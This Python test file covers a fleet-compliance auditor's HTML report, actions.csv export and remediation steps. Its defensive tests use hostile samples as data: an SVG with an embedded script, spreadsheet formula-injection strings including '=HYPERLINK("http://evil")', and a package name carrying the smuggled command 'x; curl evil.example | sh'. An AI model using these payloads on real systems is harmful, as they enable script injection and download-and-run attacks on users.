"""report.html without a browser: CSP hashes, logo, template override, trend, caps; actions.csv; steps."""
from __future__ import annotations

import base64
import dataclasses
import datetime as dt
import csv
import hashlib
import io
import re
from html import escape
from html.parser import HTMLParser
from pathlib import Path
from typing import Dict, List, Tuple

import pytest

from auditor import cli
from auditor.errors import ConfigError
from auditor.model import Platform, Status, Visibility, WaiverRef
from auditor.render.actions import act_first, due_text
from auditor.render.actions_csv import render_actions_csv
from auditor.render.html import render_html
from auditor.render.markdown import render_markdown
from auditor.render.safe import markdown as md
from auditor.render.remediation import tool_steps
from auditor.render.report_context import MAX_ROWS
from auditor.render import OutputOptions, Report
from tests.conftest import FIXTURES
from tests.render.factory import device, finding, result

PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 32
JPEG = b"\xff\xd8\xff\xe0" + b"\x00" * 32
SVG = b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>window.__pwned=1</script></svg>'


class Parsed(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: List[Tuple[str, Dict[str, str]]] = []
        self.data: Dict[str, List[str]] = {"script": [], "style": []}
        self._in = ""
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list) -> None:  # type: ignore[type-arg]
        self.tags.append((tag, {k: v or "" for k, v in attrs}))
        self._in = tag if tag in self.data else ""

    def handle_endtag(self, tag: str) -> None:
        self._in = ""

    def handle_data(self, data: str) -> None:
        if self._in:
            self.data[self._in].append(data)


def render(res=None, **kwargs) -> str:  # type: ignore[no-untyped-def]
    res = res or result([finding(1, device(1))])
    return render_html(report(res, **kwargs))


def report(res, **options) -> Report:  # type: ignore[no-untyped-def]
    return Report.of(res, OutputOptions(generated_at="2026-11-23T08:00:00Z", organisation="Contoso", **options))


def sha(text: str) -> str:
    return "'sha256-" + base64.b64encode(hashlib.sha256(text.encode()).digest()).decode() + "'"


def test_csp_allows_exactly_the_inline_script_and_style_by_hash() -> None:
    page = Parsed(render())
    csp = next(a["content"] for t, a in page.tags if t == "meta" and a.get("http-equiv") == "Content-Security-Policy")
    script, style = "".join(page.data["script"]), "".join(page.data["style"])
    assert f"script-src {sha(script)};" in csp and f"style-src {sha(style)};" in csp
    assert csp.startswith("default-src 'none';") and "unsafe" not in csp
    assert not any("style" in attrs for _, attrs in page.tags)  # a style attribute would be blocked


@pytest.mark.parametrize("data, media", [(PNG, "image/png"), (JPEG, "image/jpeg"), (SVG, "image/svg+xml")])
def test_logo_is_embedded_as_data_in_an_img(tmp_path: Path, data: bytes, media: str) -> None:
    logo = tmp_path / "logo.bin"  # the type comes from the content, not the name
    logo.write_bytes(data)
    page = Parsed(render(logo=logo))
    images = [a for t, a in page.tags if t == "img"]
    assert images == [{"src": f"data:{media};base64,{base64.b64encode(data).decode()}", "alt": "Contoso logo"}]
    assert [t for t, _ in page.tags].count("script") == 1  # the SVG's script was not inlined


def test_logo_that_is_not_an_image_is_refused(tmp_path: Path) -> None:
    logo = tmp_path / "logo.png"
    logo.write_bytes(b"<html><script>alert(1)</script></html>")
    with pytest.raises(ConfigError, match="not a PNG, JPEG or SVG"):
        render(logo=logo)


def test_template_dir_replaces_a_shipped_template_and_can_extend_it(tmp_path: Path) -> None:
    (tmp_path / "_policies.html").write_text("<section id='policies'><h2>Our own appendix</h2></section>")
    (tmp_path / "report.html").write_text(
        '{% extends "default:report.html" %}{% block footer %}<footer>Internal: {{ organisation }}</footer>{% endblock %}')
    html = render(template_dir=str(tmp_path))
    assert "Our own appendix" in html and "Appendix: policies evaluated" not in html
    assert "<footer>Internal: Contoso</footer>" in html and "Act first" in html


def test_trend_is_drawn_when_history_is_given_and_explained_when_not() -> None:
    assert "No history yet: the trend appears from the second run" in render()
    html = render(trend=[("2026-11-21", {"P1": 4, "P2": 9}), ("2026-11-22", {"P1": 2, "P2": 7})])
    assert "No history yet" not in html
    assert len(re.findall(r"<polyline class=\"P[1-4]\" points=\"[\d., ]+\">", html)) == 4
    assert "latest complete run: P1 2, P2 7, P3 0, P4 0" in html


def test_empty_states() -> None:
    html = render(result([], devices=[device(1)]))
    for text in ("No findings.", "Nothing needs a call today.", "No waivers file was given.",
                 "No ban that has yet to take effect", "Every device's full app list was visible",
                 "No row was skipped."):
        assert text in html, text


def test_rows_beyond_the_cap_are_counted_and_pointed_to() -> None:
    devices = [device(i) for i in range(MAX_ROWS + 50)]
    findings = [finding(i, d, priority="P1" if i % 7 == 0 else "P3") for i, d in enumerate(devices)]
    html = render(result(findings))
    assert html.count("<tr data-f=") == MAX_ROWS
    assert f"{MAX_ROWS} most urgent of {MAX_ROWS + 50} lines" in html
    assert html.count('<tr data-f="P1:') == len([f for f in findings if f.priority == "P1"])  # P1s all kept


def test_not_visible_devices_are_listed_and_never_called_compliant() -> None:
    hidden = device(2, Platform.IOS, visibility=Visibility.MANAGED_ONLY, name="PERSONAL-PHONE")
    html = render(result([finding(1, device(1))], devices=[device(1), hidden]))
    section = html[html.index('id="not-visible"'):html.index('id="data-quality"')]
    assert "PERSONAL-PHONE" in section and "managed-only" in section and "<strong>not</strong> known to be compliant" in section


def test_actions_csv_is_one_row_per_device_with_every_finding_and_the_earliest_deadline() -> None:
    d1, d2 = device(1), device(2, Platform.LINUX, tool="ssh", os_version="Ubuntu 22.04")
    findings = [finding(1, d1, app="tiktok"), finding(2, d1, app="wechat", identifier="com.tencent.xin", priority="P1"),
                finding(3, d1, pack="other-pack"), finding(4, d2, identifier="kaspersky", app="kaspersky"),
                finding(5, d1, status=Status.WAIVED)]
    rows = list(csv.DictReader(io.StringIO(render_actions_csv(report(result(findings))))))
    assert [r["device_key"] for r in rows] == ["dev-1", "dev-2"]  # P1 device first; waived needs no ticket
    first = rows[0]
    assert first["priority"] == "P1" and first["findings"] == "3" and first["earliest_deadline"] == "2023-03-29"
    assert first["apps"] == "Wechat; Tiktok" and first["finding_keys"] == "k00000002 k00000001 k00000003"
    assert first["steps"].startswith("1. Remove the app.\n2. Intune admin center")
    assert "sudo apt-get remove --purge kaspersky" in rows[1]["steps"]


@pytest.mark.parametrize("state, priority, in_act_first, due", [
    ("expiring-soon", "P1", True, "waived until 2026-12-01, soon: renew waiver W-1 or remove the app"),
    ("expiring-soon", "P3", False, "waived until 2026-12-01, soon: renew waiver W-1 or remove the app"),
    ("active", "P1", False, "waived until 2026-12-01"),
    ("expired", "P1", True, "1335 days overdue (deadline 2023-03-29); waiver W-1 expired 2026-12-01"),
])
def test_act_first_calls_out_waivers_that_expire_soon_or_expired(state: str, priority: str, in_act_first: bool,
                                                                  due: str) -> None:
    """A P1/P2 waiver about to expire is someone's job before it does; an expired one says why the finding
    is back. Both reach "Act first", summary.md and the findings' due text; in actions.csv a waiver about to
    expire is a ticket (renew it or remove the app), at any priority; an active one is none."""
    waived = state != "expired"
    f = dataclasses.replace(finding(1, device(1), priority=priority,
                                    status=Status.WAIVED if waived else Status.OVERDUE),
                            waiver=WaiverRef("W-1", "travel", "CISO", "SEC-1", dt.date(2026, 12, 1), state))
    res = result([f])
    assert due_text(f) == due
    people = act_first(res.findings)
    assert bool(people) == in_act_first
    html = render(res)
    act = html[html.index('id="act-first"'):html.index("</section>", html.index('id="act-first"'))]
    assert (escape(due) in act) == in_act_first
    assert (md(due) in render_markdown(report(res))) == in_act_first
    rows = list(csv.DictReader(io.StringIO(render_actions_csv(report(res)))))
    assert len(rows) == (0 if state == "active" else 1)
    assert not rows or (rows[0]["priority"] == priority and due in rows[0]["subject"])


def test_actions_csv_cells_are_spreadsheet_safe() -> None:
    d = device(1, name="=HYPERLINK(\"http://evil\")")
    hostile = finding(1, d, app="tiktok")
    object.__setattr__(hostile.owner, "email", "@SUM(1)")
    object.__setattr__(hostile.owner, "name", "-2+3")
    text = render_actions_csv(report(result([hostile])))
    for row in list(csv.reader(io.StringIO(text)))[1:]:
        for cell in row:
            for line in cell.split("\n"):
                assert not line.startswith(("=", "+", "-", "@", "\t", "\r")), line


def test_ssh_steps_never_put_a_hostile_package_name_into_a_command() -> None:
    d = device(1, Platform.LINUX, tool="ssh", os_version="Debian 12")
    evil = finding(1, d, identifier="x; curl evil.example | sh").app
    steps = " ".join(tool_steps("ssh", d, evil, "Evil"))
    assert "curl" not in steps and "check it by hand" in steps
    good = finding(1, d, identifier="wps-office").app
    assert "sudo apt-get remove --purge wps-office" in " ".join(tool_steps("ssh", d, good, "WPS Office"))
    rhel = device(2, Platform.LINUX, tool="ssh", os_version="Rocky Linux 9")
    assert "sudo dnf remove wps-office" in " ".join(tool_steps("ssh", rhel, good, "WPS Office"))


@pytest.mark.parametrize("tool, platform, expected", [
    ("intune", Platform.IOS, "Restricted apps"), ("jamf", Platform.MACOS, "Restricted Software"),
    ("workspace-one", Platform.ANDROID, "Blocklisted app"), ("google", Platform.ANDROID, "Apps > Web and mobile apps"),
    ("fleet", Platform.MACOS, "FROM apps WHERE bundle_identifier = 'com.zhiliaoapp.musically'"),
    ("ssh", Platform.WINDOWS, "winget uninstall --exact --id com.zhiliaoapp.musically"),
    ("asset-db", Platform.WINDOWS, "in the tool that manages it"),
])
def test_steps_are_specific_to_the_tool_and_platform(tool: str, platform: Platform, expected: str) -> None:
    d = device(1, platform, tool=tool)
    assert expected in " ".join(tool_steps(tool, d, finding(1, d).app, "TikTok"))


def test_logo_option_reaches_the_report(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1795420800")
    monkeypatch.setenv("FLEET_AUDITOR_POLICIES", str(FIXTURES / "policies"))
    logo = tmp_path / "logo.svg"
    logo.write_bytes(SVG)
    with pytest.raises(SystemExit):
        cli.main(["audit", str(FIXTURES / "intune"), "--out", str(tmp_path / "out"), "--logo", str(logo)])
    assert 'src="data:image/svg+xml;base64,' in (tmp_path / "out" / "report.html").read_text(encoding="utf-8")
    assert (tmp_path / "out" / "actions.csv").exists()
